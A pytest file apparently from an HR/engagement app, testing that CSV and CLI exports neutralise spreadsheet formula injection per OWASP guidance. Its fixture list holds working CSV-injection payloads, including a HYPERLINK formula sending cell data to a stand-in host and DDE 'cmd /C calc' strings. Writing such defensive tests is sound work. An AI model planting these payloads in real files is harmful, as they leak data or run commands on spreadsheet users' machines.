"""Exports that cannot run formulas: every table leaving Virage as a file, opened with the csv
module as a spreadsheet would read it (OWASP's CSV-injection guidance)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import Session

from engagement import exports
from engagement.authz import SYSTEM, Actor, Role
from engagement.cli import main
from engagement.db import get_engine, unit_of_work
from engagement.errors import ImportRejected
from engagement.services import audit, directory
from engagement.services import people_import as import_service
from engagement.services import roles as role_service
from engagement.services.directory import EmployeeFilter
from engagement.ui import downloads
from tests.conftest import PROJECT
from tests.test_pages import app, personas

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def formula_cells(data: bytes | str, delimiter: str = ",") -> list[str]:
    """The cells a spreadsheet would run as formulas."""
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
        if cell.startswith(exports.FORMULA_STARTS)
    ]


def _import_hostile(url: str) -> None:
    lines = ["external_id,name,email,department,location"]
    for i, text in enumerate(HOSTILE):
        quoted = text.replace('"', '""')
        lines.append(f'H{i},"{quoted}",h{i}@example.test,"{quoted}","{quoted}"')
    with unit_of_work(get_engine(url)) as s:
        import_service.import_people(
            session=s, actor=SYSTEM, data="\n".join(lines).encode(), file_name="h.csv"
        )


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_becomes_text(value: str) -> None:
    data = exports.table_csv(["name"], [[value]])
    (row,) = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert row == ["'" + value]
    assert not formula_cells(data)


def test_numbers_dates_and_plain_text_are_kept() -> None:
    from datetime import date

    text = exports.table_text(["a", "b", "c", "d"], [[-3, date(2026, 1, 2), "Montréal", None]])
    assert text.splitlines()[1] == "-3,2026-01-02,Montréal,"


def test_the_people_download_holds_no_formula_cell(demo_url: str) -> None:
    _import_hostile(demo_url)
    with Session(get_engine(demo_url)) as s:
        admin = directory.actor_for_email(session=s, email=personas(demo_url)[Role.ADMIN].email)
        page = directory.search_employees(
            session=s, actor=admin, filters=EmployeeFilter(text="example.test", status="all")
        )
    names = {r.name for r in page.rows}
    # stored as typed (the import trims surrounding blanks): the export is what neutralises
    assert {h.strip() for h in HOSTILE} <= names
    data = downloads.employees_csv(page.rows)
    assert formula_cells(data) == []
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + len(HOSTILE)  # no row split by a carriage return
    assert "'" + HOSTILE[0] in {c for r in rows for c in r}


def test_the_people_page_offers_our_download(demo_url: str) -> None:
    at = app(personas(demo_url)[Role.ADMIN].email)
    at.switch_page(str(PROJECT / "pages/people.py")).run()
    assert not at.exception
    buttons = at.get("download_button")
    assert [b.proto.label for b in buttons] == ["Download these people (CSV)"]


def test_the_audit_download_holds_no_formula_cell(sqlite_url: str) -> None:
    with unit_of_work(get_engine(sqlite_url)) as s:
        for text in HOSTILE:
            audit.record(s, actor=text, action="people.import", target=text, after={"x": text})
    with Session(get_engine(sqlite_url)) as s:
        admin = Actor(None, "admin@x.test", "Admin", roles=frozenset({Role.ADMIN}))
        page = audit.search_audit(session=s, actor=admin)
    assert len(page.rows) == len(HOSTILE)
    assert formula_cells(downloads.audit_csv(page.rows)) == []


def test_the_import_problems_download_holds_no_formula_cell(sqlite_url: str) -> None:
    lines = ["external_id,department,hire_date"] + [
        f'H{i},Sales,"{text.replace(chr(34), chr(34) * 2)}"' for i, text in enumerate(HOSTILE)
    ]
    with pytest.raises(ImportRejected) as refused, unit_of_work(get_engine(sqlite_url)) as s:
        import_service.import_people(
            session=s, actor=SYSTEM, data="\n".join(lines).encode(), file_name="h.csv"
        )
    assert len(refused.value.problems) >= len(HOSTILE) - 2  # every bad date at least
    assert formula_cells(downloads.problems_csv(refused.value.problems)) == []


def test_the_cli_role_list_holds_no_formula_cell(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    with unit_of_work(get_engine(sqlite_url)) as s:
        from tests import factories

        dept = factories.department(s, name="=cmd|'/C calc'!A0")
        factories.employee(s, dept, email="-x@example.test")
    with unit_of_work(get_engine(sqlite_url)) as s:
        role_service.grant_role(
            session=s,
            actor=SYSTEM,
            email="-x@example.test",
            role="manager",
            department_ids=[dept.id],
        )
    assert main(["roles", "list"]) == 0
    out = capsys.readouterr().out
    assert "-x@example.test" in out
    assert formula_cells(out, delimiter="\t") == []
